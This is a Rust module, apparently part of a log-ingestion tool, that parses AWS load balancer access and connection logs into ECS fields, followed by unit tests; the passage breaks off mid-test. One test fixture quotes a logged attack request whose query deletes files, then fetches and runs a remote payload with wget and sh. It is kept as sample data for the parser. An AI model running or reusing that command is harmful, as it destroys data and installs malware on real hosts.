//! Elastic Load Balancing access logs: one event per line, mapped like
//! Elastic's `aws.elb_logs` integration. The variant is told by the line itself:
//!
//! - Application Load Balancer: the first field is the request type
//!   (`http`, `https`, `h2`, `grpcs`, `ws`, `wss`), then the time.
//! - Network Load Balancer (TLS listeners): `tls <version> <time> net/...`.
//! - Classic Load Balancer: the time first, then the load balancer's name
//!   (HTTP and TCP listeners).
//! - Application Load Balancer connection logs: the time first, then the
//!   client's bare IP address and port.
//!
//! Fields that AWS may append later are optional, unknown trailing fields are
//! ignored. `-` means absent; `-1` for a time (the request never reached a
//! target) and for the rule priority (no rule matched) is kept as `-1`.
//! Where ECS changes a value, the source's is kept beside it (the TLS
//! protocol as `aws.elb.ssl_protocol`); the NLB log version is
//! `aws.elb.version`, the ALPN preference list is kept as written. What it
//! does not do: GeoIP, user-agent parsing, or anything that needs lookups.

use std::borrow::Cow;

use super::detect::{is_iso_time, tokens};
use super::fields::{
    is_ip, num, present, put_request, put_tls_version,
    request_line, JsonArrays, Token, Tokens,
};
use super::time::{iso8601_utc};
use super::framing::LineRecord;
use crate::record::{FieldValue, Fields, ParsedEvent};

pub const DATASET: &str = "aws.elb";

/// The field paths its events can have, besides the record writer's own
/// (see `FormatDef::fields`).
pub const FIELDS: &[&str] = &[
    "aws.elb.action_executed",
    "aws.elb.alpn_be_protocol",
    "aws.elb.alpn_client_preference_list",
    "aws.elb.alpn_fe_protocol",
    "aws.elb.backend.http.response.status_code",
    "aws.elb.backend.ip",
    "aws.elb.backend.port",
    "aws.elb.backend_processing_time.sec",
    "aws.elb.chosen_cert.arn",
    "aws.elb.chosen_cert.serial",
    "aws.elb.classification",
    "aws.elb.classification_reason",
    "aws.elb.conn_trace_id",
    "aws.elb.connection_time.ms",
    "aws.elb.error.reason",
    "aws.elb.incoming_tls_alert",
    "aws.elb.leaf_client_cert_not_after",
    "aws.elb.leaf_client_cert_not_before",
    "aws.elb.leaf_client_cert_serial_number",
    "aws.elb.leaf_client_cert_subject",
    "aws.elb.listener",
    "aws.elb.matched_rule_priority",
    "aws.elb.name",
    "aws.elb.protocol",
    "aws.elb.redirect_url",
    "aws.elb.request_processing_time.sec",
    "aws.elb.request_transform_status",
    "aws.elb.response_processing_time.sec",
    "aws.elb.ssl_cipher",
    "aws.elb.ssl_named_group",
    "aws.elb.ssl_protocol",
    "aws.elb.target_group.arn",
    "aws.elb.target_port",
    "aws.elb.target_status_code",
    "aws.elb.tls_connection_creation_time",
    "aws.elb.tls_error_code",
    "aws.elb.tls_handshake_latency",
    "aws.elb.tls_handshake_time.ms",
    "aws.elb.tls_verify_status",
    "aws.elb.trace_id",
    "aws.elb.transformed_host",
    "aws.elb.transformed_uri",
    "aws.elb.type",
    "aws.elb.version",
    "client.ip",
    "client.port",
    "destination.bytes",
    "destination.domain",
    "event.category",
    "event.end",
    "event.kind",
    "event.outcome",
    "event.start",
    "http.request.body.bytes",
    "http.request.method",
    "http.response.body.bytes",
    "http.response.status_code",
    "http.version",
    "source.address",
    "source.bytes",
    "source.ip",
    "source.port",
    "tls.cipher",
    "tls.version",
    "tls.version_protocol",
    "trace.id",
    "url.domain",
    "url.extension",
    "url.fragment",
    "url.original",
    "url.path",
    "url.port",
    "url.query",
    "url.scheme",
    "user_agent.original",
];

const WEB: FieldValue<'static> = FieldValue::Json("[\"web\"]");
const NETWORK: FieldValue<'static> = FieldValue::Json("[\"network\"]");

/// ALB `http 2026-...Z app/..`, NLB `tls 2.0 2026-..`, Classic
/// `2026-..Z name ip:port`.
pub fn sniff(line: &[u8]) -> bool {
    let [first, second, third] = tokens(line);
    let is_endpoint = |t: &[u8]| t.contains(&b':') && t.iter().any(u8::is_ascii_digit);
    (matches!(first, b"http" | b"https" | b"h2" | b"grpcs" | b"ws" | b"wss") && is_iso_time(second))
        || (first == b"tls" && is_iso_time(third))
        || (is_iso_time(first) && is_endpoint(third))
}

/// One line of space-separated fields; JSON arrays are built in a buffer
/// the event borrows.
pub struct ElbLine;

impl LineRecord for ElbLine {
    const DATASET: &'static str = DATASET;
    const WHAT: &'static str = "a load balancer log line";
    type Scratch = JsonArrays;

    fn map<'a>(
        line: &'a str,
        arrays: &'a mut JsonArrays,
        ev: &mut ParsedEvent<'a>,
    ) -> Result<(), String> {
        map_line(line, ev, arrays)?;
        let arrays: &'a JsonArrays = arrays;
        arrays.put(&mut ev.fields);
        Ok(())
    }
}


fn map_line<'a>(
    line: &'a str,
    ev: &mut ParsedEvent<'a>,
    arrays: &mut JsonArrays,
) -> Result<(), String> {
    let mut t = Tokens::new(line);
    let first = t.req("first")?;
    let first_text = first.str().unwrap_or("");
    match first_text {
        "http" | "https" | "h2" | "grpcs" | "ws" | "wss" => alb(&mut t, first_text, ev, arrays),
        "tls" | "tcp" | "udp" | "tcp_udp" => nlb(&mut t, first_text, ev),
        _ if first_text.starts_with(|c: char| c.is_ascii_digit()) => {
            let ts = time(&first, "time")?;
            ev.timestamp = Some(ts.clone());
            ev.fields.str("event.end", ts);
            let second = t.req("second")?;
            match second.str() {
                Some(s) if is_ip(s) => connection(&mut t, s, ev),
                _ => classic(&mut t, &second, ev),
            }
        }
        _ => Err(format!(
            "unknown first field {:?} (expected a request type, tls, or a time)",
            first.text
        )),
    }
}

/// Application Load Balancer access log, after the type.
fn alb<'a>(
    t: &mut Tokens<'a>,
    kind: &'a str,
    ev: &mut ParsedEvent<'a>,
    arrays: &mut JsonArrays,
) -> Result<(), String> {
    let ts = time(&t.req("time")?, "time")?;
    ev.timestamp = Some(ts.clone());
    let f = &mut ev.fields;
    f.str("event.end", ts);
    f.str("aws.elb.type", kind);
    http_common(t, f, true)?;
    opt_str(f, "aws.elb.target_group.arn", &t.req("target_group_arn")?);
    let trace = t.req("trace_id")?;
    if let Some(v) = trace.value() {
        f.str("trace.id", v.clone());
        f.str("aws.elb.trace_id", v);
    }
    let Some(tok) = t.opt()? else { return Ok(()) };
    opt_str(f, "destination.domain", &tok);
    let Some(tok) = t.opt()? else { return Ok(()) };
    opt_str(f, "aws.elb.chosen_cert.arn", &tok);
    let Some(tok) = t.opt()? else { return Ok(()) };
    if let Some(p) = num::<i64>(&tok.text, "matched_rule_priority")? {
        f.i64("aws.elb.matched_rule_priority", p);
    }
    let Some(tok) = t.opt()? else { return Ok(()) };
    if tok.str().is_some() {
        f.str("event.start", time(&tok, "request_creation_time")?);
    }
    let Some(tok) = t.opt()? else { return Ok(()) };
    if let Some(v) = tok.value() {
        arrays.push("aws.elb.action_executed", v.split(','));
    }
    let Some(tok) = t.opt()? else { return Ok(()) };
    opt_str(f, "aws.elb.redirect_url", &tok);
    let Some(tok) = t.opt()? else { return Ok(()) };
    opt_str(f, "aws.elb.error.reason", &tok);
    let Some(tok) = t.opt()? else { return Ok(()) };
    if let Some(v) = tok.value() {
        arrays.push(
            "aws.elb.target_port",
            v.split(' ').filter(|s| !s.is_empty()),
        );
    }
    let Some(tok) = t.opt()? else { return Ok(()) };
    if let Some(v) = tok.value() {
        arrays.push(
            "aws.elb.target_status_code",
            v.split(' ').filter(|s| !s.is_empty()),
        );
    }
    const TAIL: [&str; 6] = [
        "aws.elb.classification",
        "aws.elb.classification_reason",
        "aws.elb.conn_trace_id",
        "aws.elb.transformed_host",
        "aws.elb.transformed_uri",
        "aws.elb.request_transform_status",
    ];
    for path in TAIL {
        let Some(tok) = t.opt()? else { return Ok(()) };
        opt_str(f, path, &tok);
    }
    Ok(())
}

/// Classic Load Balancer access log, after the time; `name` is the second field.
fn classic<'a>(
    t: &mut Tokens<'a>,
    name: &Token<'a>,
    ev: &mut ParsedEvent<'a>,
) -> Result<(), String> {
    let f = &mut ev.fields;
    let name = name.str().ok_or("the load balancer name is missing")?;
    f.str("aws.elb.name", name);
    http_after_name(t, f, false)
}

/// The fields that ALB and Classic HTTP logs share, from the name to the
/// TLS protocol. A Classic TCP/SSL line (no status code, request `- - - `)
/// is mapped like Elastic does: bytes as `source.bytes`/`destination.bytes`.
fn http_common<'a>(t: &mut Tokens<'a>, f: &mut Fields<'a>, alb: bool) -> Result<(), String> {
    let name = t.req("elb")?;
    f.str(
        "aws.elb.name",
        name.str().ok_or("the load balancer name is missing")?,
    );
    http_after_name(t, f, alb)
}

fn http_after_name<'a>(t: &mut Tokens<'a>, f: &mut Fields<'a>, alb: bool) -> Result<(), String> {
    source(f, &t.req("client:port")?)?;
    backend(f, &t.req("target:port")?)?;
    secs(
        f,
        "aws.elb.request_processing_time.sec",
        &t.req("request_processing_time")?,
    )?;
    secs(
        f,
        "aws.elb.backend_processing_time.sec",
        &t.req("target_processing_time")?,
    )?;
    secs(
        f,
        "aws.elb.response_processing_time.sec",
        &t.req("response_processing_time")?,
    )?;
    let status = num::<u64>(&t.req("elb_status_code")?.text, "elb_status_code")?;
    let backend_status = num::<u64>(&t.req("target_status_code")?.text, "target_status_code")?;
    let received = num::<u64>(&t.req("received_bytes")?.text, "received_bytes")?;
    let sent = num::<u64>(&t.req("sent_bytes")?.text, "sent_bytes")?;
    let request = t.req("request")?;
    let user_agent = t.req("user_agent")?;
    let tcp = !alb && status.is_none() && request_line(&request.text).method.is_none();
    if tcp {
        if let Some(n) = received {
            f.u64("source.bytes", n);
        }
        if let Some(n) = sent {
            f.u64("destination.bytes", n);
        }
        f.str("aws.elb.protocol", "tcp");
        f.push("event.category", NETWORK);
    } else {
        if let Some(s) = status {
            f.u64("http.response.status_code", s);
            f.str("event.outcome", if s < 400 { "success" } else { "failure" });
        }
        if let Some(s) = backend_status {
            f.u64("aws.elb.backend.http.response.status_code", s);
        }
        if let Some(n) = received {
            f.u64("http.request.body.bytes", n);
        }
        if let Some(n) = sent {
            f.u64("http.response.body.bytes", n);
        }
        put_request(f, request.text);
        if let Some(ua) = user_agent.value() {
            f.str("user_agent.original", ua);
        }
        f.str("aws.elb.protocol", "http");
        f.push("event.category", WEB);
    }
    f.str("event.kind", "event");
    let cipher = t.req("ssl_cipher")?;
    if let Some(c) = cipher.str() {
        f.str("aws.elb.ssl_cipher", c);
        f.str("tls.cipher", c);
    }
    let protocol = t.req("ssl_protocol")?;
    if let Some(p) = protocol.str() {
        f.str("aws.elb.ssl_protocol", p);
        put_tls_version(f, p);
    }
    Ok(())
}

/// Network Load Balancer (TLS listener) access log, after the type.
fn nlb<'a>(t: &mut Tokens<'a>, kind: &'a str, ev: &mut ParsedEvent<'a>) -> Result<(), String> {
    let version = t.req("version")?;
    let ts = time(&t.req("time")?, "time")?;
    ev.timestamp = Some(ts.clone());
    let f = &mut ev.fields;
    opt_str(f, "aws.elb.version", &version);
    f.str("event.end", ts);
    f.str("aws.elb.type", kind);
    f.str("event.kind", "event");
    f.str("aws.elb.protocol", "tcp");
    f.push("event.category", NETWORK);
    opt_str(f, "aws.elb.name", &t.req("elb")?);
    opt_str(f, "aws.elb.listener", &t.req("listener")?);
    source(f, &t.req("client:port")?)?;
    backend(f, &t.req("destination:port")?)?;
    secs(f, "aws.elb.connection_time.ms", &t.req("connection_time")?)?;
    secs(
        f,
        "aws.elb.tls_handshake_time.ms",
        &t.req("tls_handshake_time")?,
    )?;
    if let Some(n) = num::<u64>(&t.req("received_bytes")?.text, "received_bytes")? {
        f.u64("source.bytes", n);
    }
    if let Some(n) = num::<u64>(&t.req("sent_bytes")?.text, "sent_bytes")? {
        f.u64("destination.bytes", n);
    }
    opt_str(
        f,
        "aws.elb.incoming_tls_alert",
        &t.req("incoming_tls_alert")?,
    );
    opt_str(f, "aws.elb.chosen_cert.arn", &t.req("chosen_cert_arn")?);
    opt_str(
        f,
        "aws.elb.chosen_cert.serial",
        &t.req("chosen_cert_serial")?,
    );
    let cipher = t.req("tls_cipher")?;
    if let Some(c) = cipher.str() {
        f.str("aws.elb.ssl_cipher", c);
        f.str("tls.cipher", c);
    }
    let protocol = t.req("tls_protocol_version")?;
    if let Some(p) = protocol.str() {
        f.str("aws.elb.ssl_protocol", p);
        put_tls_version(f, p);
    }
    opt_str(f, "aws.elb.ssl_named_group", &t.req("tls_named_group")?);
    opt_str(f, "destination.domain", &t.req("domain_name")?);
    let Some(tok) = t.opt()? else { return Ok(()) };
    opt_str(f, "aws.elb.alpn_fe_protocol", &tok);
    let Some(tok) = t.opt()? else { return Ok(()) };
    opt_str(f, "aws.elb.alpn_be_protocol", &tok);
    let Some(tok) = t.opt()? else { return Ok(()) };
    // `"h2","http/1.1"` (its inner quotes kept); some copies carry escaped
    // quotes, `\"http/1.1\"`: kept as written too.
    opt_str(f, "aws.elb.alpn_client_preference_list", &tok);
    let Some(tok) = t.opt()? else { return Ok(()) };
    if tok.str().is_some() {
        f.str(
            "aws.elb.tls_connection_creation_time",
            time(&tok, "tls_connection_creation_time")?,
        );
    }
    Ok(())
}

/// Application Load Balancer connection log, after the time; `ip` is the client.
fn connection<'a>(t: &mut Tokens<'a>, ip: &'a str, ev: &mut ParsedEvent<'a>) -> Result<(), String> {
    let f = &mut ev.fields;
    f.str("client.ip", ip);
    if let Some(port) = num::<u64>(&t.req("client_port")?.text, "client_port")? {
        f.u64("client.port", port);
    }
    opt_str(f, "aws.elb.listener", &t.req("listener_port")?);
    let protocol = t.req("tls_protocol")?;
    if let Some(p) = protocol.str() {
        f.str("aws.elb.ssl_protocol", p);
        put_tls_version(f, p);
    }
    let cipher = t.req("tls_cipher")?;
    if let Some(c) = cipher.str() {
        f.str("aws.elb.ssl_cipher", c);
        f.str("tls.cipher", c);
    }
    if let Some(l) = num::<f64>(
        &t.req("tls_handshake_latency")?.text,
        "tls_handshake_latency",
    )? {
        f.f64("aws.elb.tls_handshake_latency", l);
    }
    opt_str(
        f,
        "aws.elb.leaf_client_cert_subject",
        &t.req("leaf_client_cert_subject")?,
    );
    let validity = t.req("leaf_client_cert_validity")?;
    if let Some(v) = validity.str() {
        for part in v.split(';') {
            let (path, value) = match part.split_once('=') {
                Some(("NotBefore", v)) => ("aws.elb.leaf_client_cert_not_before", v),
                Some(("NotAfter", v)) => ("aws.elb.leaf_client_cert_not_after", v),
                _ => continue,
            };
            if let Some(ts) = iso8601_utc(value) {
                f.str(path, ts);
            }
        }
    }
    opt_str(
        f,
        "aws.elb.leaf_client_cert_serial_number",
        &t.req("leaf_client_cert_serial_number")?,
    );
    let verify = t.req("tls_verify_status")?;
    if let Some(v) = verify.str() {
        let (status, code) = match v.split_once(':') {
            Some((s, c)) => (s, present(c)),
            None => (v, None),
        };
        f.str("aws.elb.tls_verify_status", status);
        f.opt_str("aws.elb.tls_error_code", code);
        match status {
            "Success" => f.str("event.outcome", "success"),
            "Failed" => f.str("event.outcome", "failure"),
            _ => {}
        }
    }
    if let Some(tok) = t.opt()? {
        opt_str(f, "aws.elb.conn_trace_id", &tok);
    }
    f.str("event.kind", "event");
    f.str("aws.elb.protocol", "tcp");
    f.push("event.category", NETWORK);
    Ok(())
}

fn opt_str<'a>(f: &mut Fields<'a>, path: &'static str, tok: &Token<'a>) {
    f.opt_cow(path, tok.value());
}

fn time<'a>(tok: &Token<'a>, name: &str) -> Result<Cow<'a, str>, String> {
    tok.str()
        .and_then(iso8601_utc)
        .ok_or_else(|| format!("{name} {:?} is not an ISO 8601 time", tok.text))
}

/// `client:port` -> `source.address`, `source.ip` (when an IP), `source.port`.
fn source<'a>(f: &mut Fields<'a>, tok: &Token<'a>) -> Result<(), String> {
    let (host, port) = tok
        .str()
        .and_then(super::fields::ip_port)
        .ok_or_else(|| format!("client:port {:?} is not an address and port", tok.text))?;
    f.str("source.address", host);
    if is_ip(host) {
        f.str("source.ip", host);
    }
    f.u64("source.port", u64::from(port));
    Ok(())
}

/// `target:port` -> `aws.elb.backend.ip`/`.port`; `-` is absent.
fn backend<'a>(f: &mut Fields<'a>, tok: &Token<'a>) -> Result<(), String> {
    let Some(s) = tok.str() else { return Ok(()) };
    let (host, port) = super::fields::ip_port(s)
        .ok_or_else(|| format!("target:port {s:?} is not an address and port"))?;
    f.str("aws.elb.backend.ip", host);
    f.u64("aws.elb.backend.port", u64::from(port));
    Ok(())
}

/// A duration; `-` is absent, `-1` (the request never reached a target)
/// is kept.
fn secs<'a>(f: &mut Fields<'a>, path: &'static str, tok: &Token<'a>) -> Result<(), String> {
    let name = path.trim_start_matches("aws.elb.");
    if let Some(v) = num::<f64>(&tok.text, name)? {
        f.f64(path, v);
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use crate::formats::testing::{absent, check, run, Owned};
    use crate::formats::Format;

    const ALB: &[u8] = include_bytes!("../../tests/data/elb/test-alb.log");
    const DOCS: &[u8] = include_bytes!("../../tests/data/elb/aws-docs.log");

    fn events(input: &[u8]) -> Vec<Owned> {
        let (evs, stats) = run(Format::Elb, input, 64 * 1024).expect("parses");
        assert_eq!(stats.events, evs.len() as u64);
        evs
    }

    #[test]
    fn elastic_alb_samples_map_like_the_expected_json() {
        let evs = events(ALB);
        assert_eq!(evs.len(), 10);
        assert!(evs
            .iter()
            .all(|e| e.error.is_none() && e.dataset == "aws.elb"));
        // Values from test-alb.log-expected.json (elastic/integrations).
        assert_eq!(
            evs[0].timestamp.as_deref(),
            Some("2018-07-02T22:23:00.186641Z")
        );
        check(
            &evs[0],
            &[
                ("aws.elb.type", "http"),
                ("aws.elb.name", "app/my-loadbalancer/50dc6c495c0c9188"),
                ("source.address", "192.168.131.39"),
                ("source.ip", "192.168.131.39"),
                ("source.port", "2817"),
                ("aws.elb.backend.ip", "10.0.0.1"),
                ("aws.elb.backend.port", "80"),
                ("aws.elb.request_processing_time.sec", "0"),
                ("aws.elb.backend_processing_time.sec", "0.001"),
                ("aws.elb.response_processing_time.sec", "0"),
                ("http.response.status_code", "200"),
                ("aws.elb.backend.http.response.status_code", "200"),
                ("http.request.body.bytes", "34"),
                ("http.response.body.bytes", "366"),
                ("http.request.method", "GET"),
                ("http.version", "1.1"),
                ("url.original", "http://www.example.com:80/"),
                ("url.domain", "www.example.com"),
                ("url.port", "80"),
                ("url.path", "/"),
                ("url.scheme", "http"),
                ("user_agent.original", "curl/7.46.0"),
                (
                    "aws.elb.target_group.arn",
                    "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067",
                ),
                ("aws.elb.trace_id", "Root=1-58337262-36d228ad5d99923122bbe354"),
                ("trace.id", "Root=1-58337262-36d228ad5d99923122bbe354"),
                ("aws.elb.matched_rule_priority", "0"),
                ("event.start", "2018-07-02T22:22:48.364000Z"),
                ("event.end", "2018-07-02T22:23:00.186641Z"),
                ("aws.elb.action_executed", r#"["forward","redirect"]"#),
                ("aws.elb.target_port", r#"["10.0.0.1:80"]"#),
                ("aws.elb.target_status_code", r#"["200"]"#),
                ("aws.elb.protocol", "http"),
                ("event.category", r#"["web"]"#),
                ("event.kind", "event"),
                ("event.outcome", "success"),
            ],
        );
        absent(
            &evs[0],
            &[
                "destination.domain",
                "aws.elb.chosen_cert.arn",
                "aws.elb.redirect_url",
                "aws.elb.error.reason",
                "aws.elb.classification",
                "tls.cipher",
                "url.query",
            ],
        );
        // A URI with a space, -1 times, no target, classification.
        check(
            &evs[1],
            &[
                ("url.domain", "127.0.0.1"),
                (
                    "url.original",
                    "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws",
                ),
                ("url.path", "/shell"),
                ("url.query", "cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"),
                ("url.port", "80"),
                ("http.response.status_code", "301"),
                ("user_agent.original", "Hello, world"),
                ("aws.elb.action_executed", r#"["redirect"]"#),
                (
                    "aws.elb.redirect_url",
                    "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws",
                ),
                ("aws.elb.classification", "Acceptable"),
                ("aws.elb.classification_reason", "SpaceInUri"),
                ("source.port", "41542"),
                // Never reached a target: -1, as AWS writes it.
                ("aws.elb.request_processing_time.sec", "-1"),
                ("aws.elb.backend_processing_time.sec", "-1"),
                ("aws.elb.response_processing_time.sec", "-1"),
            ],
        );
        absent(
            &evs[1],
            &[
                "aws.elb.backend.ip",
                "aws.elb.backend.http.response.status_code",
                "aws.elb.target_group.arn",
                "aws.elb.target_port",
            ],
        );
    }

    #[test]
    fn network_load_balancer_tls_lines() {
        let evs = events(ALB);
        assert_eq!(evs[2].timestamp.as_deref(), Some("2018-12-20T02:59:40Z"));
        check(
            &evs[2],
            &[
                ("aws.elb.type", "tls"),
                ("aws.elb.name", "net/my-network-loadbalancer/c6e77e28c25b2234"),
                ("aws.elb.listener", "g3d4b5e8bb8464cd"),
                ("source.ip", "192.168.131.39"),
                ("source.port", "2817"),
                ("aws.elb.backend.ip", "10.0.0.1"),
                ("aws.elb.backend.port", "80"),
                ("aws.elb.connection_time.ms", "5"),
                ("aws.elb.tls_handshake_time.ms", "2"),
                ("source.bytes", "98"),
                ("destination.bytes", "246"),
                (
                    "aws.elb.chosen_cert.arn",
                    "arn:aws:acm:us-east-2:671290407336:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99",
                ),
                ("tls.cipher", "ECDHE-RSA-AES128-SHA"),
                ("aws.elb.ssl_protocol", "tlsv12"),
                ("tls.version", "1.2"),
                ("tls.version_protocol", "tls"),
                (
                    "destination.domain",
                    "my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com",
                ),
                ("aws.elb.tls_connection_creation_time", "2018-12-20T02:59:30Z"),
                ("aws.elb.protocol", "tcp"),
                ("event.category", r#"["network"]"#),
            ],
        );
        absent(
            &evs[2],
            &[
                "http.response.status_code",
                "event.outcome",
                "aws.elb.alpn_fe_protocol",
            ],
        );
        check(
            &evs[3],
            &[
                ("aws.elb.alpn_fe_protocol", "h2"),
                ("aws.elb.alpn_be_protocol", "h2"),
                ("aws.elb.alpn_client_preference_list", r#"h2","http/1.1"#),
            ],
        );
        check(
            &evs[4],
            &[
                // As written, escaped quotes and all.
                ("aws.elb.alpn_client_preference_list", r#"\"http/1.1\""#),
                ("aws.elb.version", "2.0"),
            ],
        );
        // All-dash NLB line: only what is there.
        check(
            &evs[5],
            &[("aws.elb.connection_time.ms", "0"), ("source.bytes", "0")],
        );
        absent(
            &evs[5],
            &[
                "aws.elb.tls_handshake_time.ms",
                "tls.cipher",
                "destination.domain",
            ],
        );
    }

    #[test]
    fn alb_connection_logs() {
        let evs = events(ALB);
        check(
            &evs[6],
            &[
                ("client.ip", "192.168.131.39"),
                ("client.port", "36280"),
                ("aws.elb.listener", "443"),
                ("tls.version", "1.2"),
                ("tls.cipher", "ECDHE-RSA-AES128-GCM-SHA256"),
                ("aws.elb.tls_handshake_latency", "4.036"),
                (
                    "aws.elb.leaf_client_cert_subject",
                    "CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US",
                ),
                (
                    "aws.elb.leaf_client_cert_not_before",
                    "2023-09-21T22:43:21Z",
                ),
                ("aws.elb.leaf_client_cert_not_after", "2026-06-17T22:43:21Z"),
                ("aws.elb.leaf_client_cert_serial_number", "FEF257372D5C14D4"),
                ("aws.elb.tls_verify_status", "Success"),
                ("event.outcome", "success"),
            ],
        );
        check(
            &evs[7],
            &[
                ("aws.elb.tls_verify_status", "Failed"),
                ("aws.elb.tls_error_code", "ClientCertUntrusted"),
                ("event.outcome", "failure"),
            ],
        );
        absent(&evs[7], &["aws.elb.tls_handshake_latency"]);
        check(
            &evs[8],
            &[
                ("aws.elb.conn_trace_id", "TID_16132ed0b4112148"),
                ("client.port", "58206"),
            ],
        );
        absent(
            &evs[8],
            &[
                "tls.cipher",
                "aws.elb.leaf_client_cert_subject",
                "aws.elb.tls_verify_status",
            ],
        );
        assert_eq!(
            evs[8].timestamp.as_deref(),
            Some("2024-11-29T13:45:24.599544Z")
        );
    }

    #[test]
    fn alb_line_with_dash_request_parts_and_conn_trace_id() {
        let evs = events(ALB);
        check(
            &evs[9],
            &[
                (
                    "url.original",
                    "http://internal-service-alb.example.com:80-/",
                ),
                (
                    "aws.elb.conn_trace_id",
                    "TID_00000000000000000000000000000000",
                ),
                ("http.response.status_code", "200"),
            ],
        );
        absent(
            &evs[9],
            &[
                "http.request.method",
                "http.version",
                "url.port",
                "user_agent.original",
                "aws.elb.trace_id",
                "aws.elb.matched_rule_priority",
                "aws.elb.action_executed",
            ],
        );
    }

    #[test]
    fn aws_docs_examples_for_every_variant() {
        let evs = events(DOCS);
        assert!(
            evs.iter().all(|e| e.error.is_none()),
            "{:?}",
            evs.iter().find(|e| e.error.is_some())
        );
        // Classic HTTP
        check(
            &evs[0],
            &[
                ("aws.elb.name", "my-loadbalancer"),
                ("aws.elb.request_processing_time.sec", "0.000073"),
                ("http.response.status_code", "200"),
                ("url.original", "http://www.example.com:80/"),
                ("aws.elb.protocol", "http"),
            ],
        );
        absent(&evs[0], &["aws.elb.type", "tls.cipher"]);
        // Classic HTTPS
        check(
            &evs[1],
            &[
                ("tls.cipher", "DHE-RSA-AES128-SHA"),
                ("tls.version", "1.2"),
                ("url.scheme", "https"),
                ("url.port", "443"),
            ],
        );
        // Classic TCP and SSL
        for ev in &evs[2..4] {
            check(
                ev,
                &[
                    ("aws.elb.protocol", "tcp"),
                    ("event.category", r#"["network"]"#),
                    ("source.bytes", ev.field("source.bytes").unwrap_or("?")),
                ],
            );
            absent(
                ev,
                &[
                    "http.response.status_code",
                    "http.request.method",
                    "user_agent.original",
                    "url.original",
                    "event.outcome",
                ],
            );
        }
        check(
            &evs[2],
            &[("source.bytes", "82"), ("destination.bytes", "305")],
        );
        check(&evs[3], &[("tls.cipher", "ECDHE-ECDSA-AES128-GCM-SHA256")]);
        // ALB h2 with redirect, wss, lambda failure, grpcs with several targets
        check(
            &evs[4],
            &[
                ("aws.elb.type", "h2"),
                ("http.version", "2.0"),
                ("aws.elb.matched_rule_priority", "1"),
                ("aws.elb.conn_trace_id", "TID_1234abcd5678ef90"),
            ],
        );
        check(
            &evs[5],
            &[
                ("aws.elb.type", "wss"),
                ("url.scheme", "wss"),
                ("http.response.status_code", "101"),
            ],
        );
        absent(&evs[5], &["user_agent.original"]);
        check(
            &evs[6],
            &[
                ("aws.elb.error.reason", "LambdaInvalidResponse"),
                ("event.outcome", "failure"),
                ("http.response.status_code", "502"),
            ],
        );
        absent(
            &evs[6],
            &[
                "aws.elb.backend.ip",
                "aws.elb.backend.http.response.status_code",
            ],
        );
        check(
            &evs[7],
            &[
                ("aws.elb.type", "grpcs"),
                (
                    "aws.elb.target_port",
                    r#"["10.0.0.66:9000","10.0.0.67:9000"]"#,
                ),
                ("aws.elb.target_status_code", r#"["500","200"]"#),
                ("aws.elb.transformed_host", "internal.example.com"),
                ("aws.elb.transformed_uri", "/v2/items"),
                ("aws.elb.request_transform_status", "SUCCESS"),
                ("user_agent.original", "grpc \"go\"/1.0"),
            ],
        );
    }

    #[test]
    fn malformed_lines_become_error_events_and_parsing_goes_on() {
        let cases: &[(&str, &str)] = &[
            ("garbage here", "unknown first field"),
            ("http 2018-07-02T22:23:00.186641Z app/x 1.2.3.4:5", "ends before"),
            ("http not-a-time app/x 1.2.3.4:5 - 0 0 0 200 200 1 1 \"GET / HTTP/1.1\" \"-\" - - - \"-\"", "not an ISO 8601 time"),
            ("http 2018-07-02T22:23:00Z app/x 1.2.3.4 - 0 0 0 200 200 1 1 \"GET / HTTP/1.1\" \"-\" - - - \"-\"", "client:port"),
            ("http 2018-07-02T22:23:00Z app/x 1.2.3.4:5 - 0 0 0 OK 200 1 1 \"GET / HTTP/1.1\" \"-\" - - - \"-\"", "elb_status_code \"OK\""),
            ("http 2018-07-02T22:23:00Z app/x 1.2.3.4:5 - 0 0 0 200 200 1 1 \"GET / HTTP/1.1", "closing quote"),
            ("tls 2.0 2018-12-20T02:59:40 net/x l 1.2.3.4:5 6.7.8.9:10 5 2 98", "ends before"),
            ("2024-10-04T17:05:15Z 192.168.1.1 x 443 - - - \"-\" - - -", "client_port"),
        ];
        let mut input = Vec::new();
        for (line, _) in cases {
            input.extend_from_slice(line.as_bytes());
            input.extend_from_slice(b"\n\n");
        }
        let (evs, stats) = run(Format::Elb, &input, 4096).unwrap();
        assert_eq!(evs.len(), cases.len());
        assert_eq!(stats.errors, cases.len() as u64);
        assert_eq!(stats.skipped, cases.len() as u64);
        for (i, (ev, (line, reason))) in evs.iter().zip(cases).enumerate() {
            let err = ev.error.as_deref().unwrap();
            assert!(err.contains(&format!("line {}:", 2 * i + 1)), "{err}");
            assert!(err.contains(reason), "{err} should say {reason}");
            assert_eq!(ev.original, *line);
            assert!(ev.fields.is_empty() && ev.timestamp.is_none());
        }
    }

    #[test]
    fn invalid_utf8_is_kept_lossily_with_an_error_and_crlf_is_stripped() {
        let line = b"http 2018-07-02T22:23:00.186641Z app/x 1.2.3.4:5 - 0 0 0 200 - 1 1 \"GET http://h/ HTTP/1.1\" \"bad \xff ua\" - - - \"Root=1\"\r\n";
        let evs = events(line);
        assert_eq!(evs.len(), 1);
        assert!(evs[0].error.as_deref().unwrap().contains("UTF-8"));
        assert_eq!(evs[0].field("user_agent.original"), Some("bad \u{FFFD} ua"));
        assert_eq!(evs[0].field("aws.elb.trace_id"), Some("Root=1"));
        assert!(!evs[0].original.ends_with('\r'));
    }

    #[test]
    fn records_are_nested_json_with_arrays_and_numbers() {
        use crate::record::{ObjectContext, RecordWriter};
        let ctx = std::sync::Arc::new(ObjectContext {
            bucket: "b".into(),
            key: "k".into(),
            version: "v".into(),
            ingested: "2026-01-01T00:00:00Z".into(),
            include_original: true,
        });
        let mut writer = RecordWriter::new(ctx);
        let mut records = Vec::new();
        let mut reader = std::io::BufReader::new(ALB);
        let limits = crate::formats::Limits {
            max_line_bytes: 64 * 1024,
        };
